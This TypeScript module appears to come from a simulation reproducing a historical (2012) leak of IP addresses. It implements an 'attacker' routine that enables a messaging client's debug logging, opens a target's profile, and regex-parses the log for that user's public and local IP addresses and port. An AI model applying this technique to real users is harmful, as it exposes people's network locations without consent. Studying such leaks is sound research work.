import { Attacker, AttackerOptions } from './attacker';
import { simulatedAddress } from './address-display';
import { Resolution, nothingLeaked } from './resolution';

/** `profile bob -r127.51.100.140:41234 -l192.168.1.23` — the line the client library writes at debug level. */
const PROFILE_LINE = /^profile (\S+) -r(\S+?):(\d+|null) -l(\S*)$/;

/**
 * The historical route (2012): switch on the ordinary client's debug logging, merely open the
 * target's profile, and read the addresses out of the client's own log — the UI never shows them.
 */
export async function resolveFromDebugLog(
  options: AttackerOptions,
  username: string,
): Promise<Resolution & { logLines: string[] }> {
  const logLines: string[] = [];
  const logger = {
    debug: (_fields: object, message: string) => logLines.push(message),
    warn: () => undefined,
  };
  const attacker = await Attacker.connect({ ...options, logger });
  try {
    await attacker.client.lookup(username).catch(() => undefined);
  } finally {
    await attacker.close();
  }
  for (const line of logLines) {
    const match = PROFILE_LINE.exec(line);
    if (!match || match[1] !== username || match[2] === 'null') continue;
    return {
      username,
      leaked: true,
      publicAddress: simulatedAddress(match[2]),
      observedAddress: match[2],
      port: match[3] === 'null' ? null : Number(match[3]),
      localAddresses: match[4] ? match[4].split(',') : [],
      observedAt: null,
      answer: 'found in the debug log',
      logLines,
    };
  }
  return { ...nothingLeaked(username, 'no address in the debug log'), logLines };
}
